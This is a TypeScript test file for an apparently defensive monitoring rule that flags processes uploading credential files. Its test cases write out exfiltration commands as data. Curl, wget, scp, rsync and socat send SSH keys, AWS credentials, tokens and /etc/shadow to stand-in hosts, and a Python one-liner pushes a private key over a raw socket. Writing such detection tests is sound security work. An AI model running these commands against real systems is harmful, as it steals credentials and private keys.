import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { StdioFdV1 } from '@vigil/schema';
import {
  builtinEngine,
  connect,
  exec,
  execWithStdio,
  exeReference,
  exeReport,
  fileFd,
  pipeFd,
  tcpFd,
  ttyFd,
  ttyStdio,
} from '../testing.js';
import { sentFiles } from './cred-upload.js';

const RULE = 'cred.upload';
const run = (argv: string[]) => {
  const { engine, alerts } = builtinEngine();
  engine.process([exec(argv)]);
  return alerts.filter((a) => a.ruleId === RULE).map((a) => [a.severity, a.reason] as const);
};

test('cred.upload: clients sending a credential file raise, critical toward another host, naming the file', () => {
  const cases: [string[], string][] = [
    [['curl', '-F', 'f=@/home/u/.ssh/id_ed25519', 'https://paste.example.net/u'], 'critical'],
    [['curl', '-T', '/home/u/.aws/credentials', 'http://127.0.0.1:8000/u'], 'high'],
    [['curl', '--data-binary=@/home/u/.netrc', 'http://203.0.113.7/'], 'critical'],
    [['wget', '--post-file=/home/u/.cache/huggingface/token', 'http://203.0.113.7/'], 'critical'],
    [['scp', '-P', '2222', '/home/u/.kube/config', 'me@203.0.113.7:/tmp/'], 'critical'],
    [['rsync', '-a', '/home/u/.ssh/', 'backup.example.org:keys/'], 'critical'],
    [['socat', '-u', 'OPEN:/etc/shadow', 'TCP:127.0.0.1:9000'], 'high'],
  ];
  for (const [argv, severity] of cases) {
    const got = run(argv);
    assert.equal(got.length, 1, argv.join(' '));
    assert.equal(got[0]![0], severity, argv.join(' '));
    assert.match(got[0]![1], /sends credential file \//);
  }
});

test('cred.upload: identity files, public keys, downloads and ordinary uploads raise nothing', () => {
  for (const argv of [
    ['scp', '-i', '/home/u/.ssh/id_ed25519', 'ckpt.pt', 'me@10.0.0.9:/data/'],
    ['rsync', '-a', '-e', 'ssh -i /home/u/.ssh/id_ed25519', 'ckpt.pt', 'me@10.0.0.9:/data/'],
    ['curl', '-F', 'key=@/home/u/.ssh/id_ed25519.pub', 'https://git.example.com/keys'],
    ['curl', '-o', '/home/u/.aws/credentials', 'http://10.0.0.5/creds'],
    ['curl', '-T', 'ckpt.tar', 'https://bucket.s3.amazonaws.com/ckpt.tar'],
    ['cat', '/home/u/.aws/credentials'],
  ])
    assert.deepEqual(run(argv), [], argv.join(' '));
});

test('cred.upload: a renamed curl is known by its content hash', () => {
  const { engine, alerts } = builtinEngine();
  const p = { pid: 31, exe: '/tmp/.x/upd', comm: 'upd', exeHash: 'c'.repeat(64) };
  engine.process([
    exeReference('/usr/bin/curl', 'c'.repeat(64)),
    exeReport('/tmp/.x/upd', 'c'.repeat(64), { p }),
    exec(['/tmp/.x/upd', '-F', 'f=@/root/.ssh/id_rsa', 'http://203.0.113.7/'], p),
  ]);
  assert.deepEqual(
    alerts.filter((a) => a.ruleId === RULE).map((a) => a.severity),
    ['critical'],
  );
});

test('sentFiles: each client by its grammar', () => {
  assert.deepEqual(sentFiles('curl', ['curl', '-F', 'a=<~/.netrc;type=text/plain', 'u']), ['~/.netrc']);
  assert.deepEqual(sentFiles('scp', ['scp', '/home/u/.ssh/id_rsa', 'h:/tmp']), ['/home/u/.ssh/id_rsa']);
  assert.deepEqual(sentFiles('scp', ['scp', 'h:/home/u/.ssh/id_rsa', '.']), []);
});

test('cred.upload: an interpreter naming a credential file in its inline code raises once it connects out', () => {
  const code =
    "import socket;s=socket.create_connection(('203.0.113.7',9));s.sendall(open('/root/.ssh/id_rsa','rb').read())";
  const p = { pid: 41, comm: 'python3', exe: '/usr/bin/python3.11' };
  const { engine, alerts } = builtinEngine();
  engine.process([exec(['python3', '-c', code], p, '/usr/bin/python3.11'), connect('203.0.113.7', 9, p)]);
  const got = alerts.filter((a) => a.ruleId === RULE);
  assert.deepEqual(
    got.map((a) => a.severity),
    ['critical'],
  );
  assert.match(
    got[0]!.reason,
    /names credential file \/root\/\.ssh\/id_rsa in its inline code and connects to 203\.0\.113\.7:9/,
  );
  // Reading it without connecting, or connecting without naming one: nothing.
  const quiet = builtinEngine();
  quiet.engine.process([
    exec(['python3', '-c', "print(open('/root/.ssh/id_rsa').read()[:10])"], { pid: 42 }, '/usr/bin/python3.11'),
    exec(
      ['python3', '-c', 'import urllib.request as u; u.urlopen("https://huggingface.co")'],
      { pid: 43 },
      '/usr/bin/python3.11',
    ),
    connect('18.1.2.3', 443, { pid: 43, comm: 'python3', exe: '/usr/bin/python3.11' }),
  ]);
  assert.deepEqual(
    quiet.alerts.filter((a) => a.ruleId === RULE),
    [],
  );
});

test('cred.upload: busybox wget posting a credential file', () => {
  assert.deepEqual(
    run(['busybox', 'wget', '--post-file=/root/.aws/credentials', 'http://203.0.113.7/']).map(([s]) => s),
    ['critical'],
  );
});

test('cred.upload: a credential file read with stdout a socket (cat key > /dev/tcp/…) raises, whatever reads it; a key read to a terminal, a pipe or a file does not', () => {
  const sent = (argv: string[], stdio: StdioFdV1[]) => {
    const { engine, alerts } = builtinEngine();
    engine.process([execWithStdio(argv, stdio)]);
    return alerts.filter((a) => a.ruleId === RULE).map((a) => [a.severity, a.reason] as const);
  };
  const far = sent(['cat', '/home/u/.ssh/id_rsa'], [ttyFd(0), tcpFd(1, '203.0.113.9:443'), ttyFd(2)]);
  assert.equal(far[0]?.[0], 'critical');
  assert.match(
    far[0]![1],
    /reads credential file \/home\/u\/\.ssh\/id_rsa with its stdout a tcp socket to 203\.0\.113\.9:443/,
  );
  assert.equal(
    sent(['kworker', '-w0', '/home/u/.aws/credentials'], [ttyFd(0), tcpFd(1, '127.0.0.1:9000'), ttyFd(2)])[0]?.[0],
    'high',
  );
  for (const stdio of [ttyStdio(), [ttyFd(0), pipeFd(1, 7), ttyFd(2)], [ttyFd(0), fileFd(1), ttyFd(2)]])
    assert.deepEqual(sent(['cat', '/home/u/.ssh/id_rsa'], stdio), []);
  // A socket on stdout without a credential: a health check's output, metrics to a collector.
  assert.deepEqual(sent(['cat', 'metrics.json'], [ttyFd(0), tcpFd(1, '203.0.113.9:443'), ttyFd(2)]), []);
  assert.deepEqual(sent(['cat', '/home/u/.ssh/id_rsa.pub'], [ttyFd(0), tcpFd(1, '203.0.113.9:443'), ttyFd(2)]), []);
});
